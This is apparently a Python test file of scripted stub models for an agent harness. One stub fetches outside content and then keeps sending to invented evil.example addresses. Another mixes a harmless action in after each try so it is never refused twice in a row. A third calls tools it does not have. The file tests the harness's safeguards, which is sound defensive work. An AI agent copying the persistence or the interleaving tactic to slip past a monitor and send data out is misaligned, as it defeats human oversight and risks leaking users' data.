"""Models that do not take no for an answer: `scripted:tests.harness.stubborn:<name>`."""

from typing import Any

from activities.model.provider import Message

STEPS = 40  # and then it gives up


def asks_for_what_it_may_not(step: int, messages: tuple[Message, ...]) -> dict[str, Any]:
    """Read something from outside, then send to one invented address after the other."""
    if step == 1:
        return {"tools": [{"name": "fetch", "input": {}}]}
    return _send(step) if step <= STEPS else {"text": "I give up"}


def looks_in_between(step: int, messages: tuple[Message, ...]) -> dict[str, Any]:
    """The same, but with something harmless after each try: it is never refused twice in a row."""
    if step == 1:
        return {"tools": [{"name": "fetch", "input": {}}]}
    turn = _send(step)
    turn["tools"].append({"name": "look", "input": {"what": f"thing {step}"}})
    return turn if step <= STEPS else {"text": "I give up"}


def uses_tools_it_does_not_have(step: int, messages: tuple[Message, ...]) -> dict[str, Any]:
    """Make four mistakes of its own, and then answer."""
    return {"tools": [{"name": f"tool_{step}", "input": {}}]} if step <= 4 else {"text": "done"}


def _send(step: int) -> dict[str, Any]:
    return {"tools": [{"name": "send", "input": {"to": f"eve{step}@evil.example"}}]}
